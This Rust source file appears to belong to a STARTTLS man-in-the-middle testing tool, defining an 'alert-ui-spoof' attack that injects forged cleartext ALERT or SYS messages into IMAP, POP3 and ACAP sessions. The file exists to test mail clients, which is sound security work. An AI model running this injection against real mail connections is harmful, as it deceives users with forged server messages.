//! Sends an alert in the server's name.

use super::kit::TEXT;
use super::{Attack, Deciding, Group, group, tamper};
use crate::base::{Protocol, Side, Switch, switch};
use crate::harm::success;
use crate::trace::Verb;

switch!(
    Middle ALERT,
    "alert",
    Setting,
    &["early", "answer"],
    &[],
    "Moment",
    "Early in the session, or in the clear behind the answer to STARTTLS."
);

static SWITCHES: &[&Switch] = &[&ALERT];

static DECIDING: &[Deciding] = &[
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
        given: &[],
        right: &[],
        wrong: &["client.shows-clear-alerts=on"],
    },
    Deciding {
        protocols: &[Protocol::Imap, Protocol::Acap],
        given: &["middle.alert=answer"],
        right: &[],
        wrong: &["client.keeps-buffer=on"],
    },
];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "alert-ui-spoof",
    title: "Forge an alert",
    about: "Sends a text in the clear that the protocol wants shown to the user: ALERT in IMAP and ACAP, SYS codes in POP3.",
    group: Group::Texts,
    known: &[group::USENIX],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: SWITCHES,
    build: |switches, dialect| {
        let behind_answer = switches.get(&ALERT) == "answer";
        let alert = match dialect.protocol {
            Protocol::Imap => format!("* OK [ALERT] {TEXT}\r\n"),
            Protocol::Pop3 => format!("-ERR [SYS/PERM] {TEXT}\r\n"),
            Protocol::Acap => format!("* ALERT \"{TEXT}\"\r\n"),
        };
        let mut asked = false;
        tamper(move |message, moves| {
            let asks_for_list =
                message.from == Side::Client && dialect.tag_of(Verb::Capability, message.octets).is_some();
            // POP3 has no line that is not an answer.
            if dialect.protocol == Protocol::Pop3 && asks_for_list && !behind_answer {
                moves.answer(alert.clone().into_bytes());
                return;
            }
            moves.pass();
            if message.from == Side::Client {
                asked = dialect.starttls_tag(message.octets).is_some();
            } else if behind_answer && std::mem::take(&mut asked)
                || !behind_answer && message.is_greeting() && dialect.protocol != Protocol::Pop3
            {
                moves.add(alert.clone().into_bytes());
            }
        })
    },
    success: &success::DECEIVED,
    deciding: DECIDING,
};
